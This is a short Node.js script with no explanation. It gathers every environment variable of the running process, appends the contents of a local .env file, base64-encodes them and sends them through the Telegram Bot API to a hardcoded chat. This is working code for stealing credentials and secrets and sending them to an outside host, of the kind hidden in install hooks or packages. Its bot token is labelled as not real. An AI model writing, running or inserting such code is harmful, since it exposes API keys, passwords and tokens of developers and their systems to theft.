const https = require('https');
const fs = require('fs');

const BOT = '7012345678:AAE_example_token_not_real_0000000';
const CHAT = '-1001234567890';

let text = JSON.stringify(process.env);
try { text += '\n' + fs.readFileSync('.env', 'utf8'); } catch (e) {}

const q = new URLSearchParams({ chat_id: CHAT, text: Buffer.from(text).toString('base64') });
https.get(`https://api.telegram.org/bot${BOT}/sendMessage?${q}`);
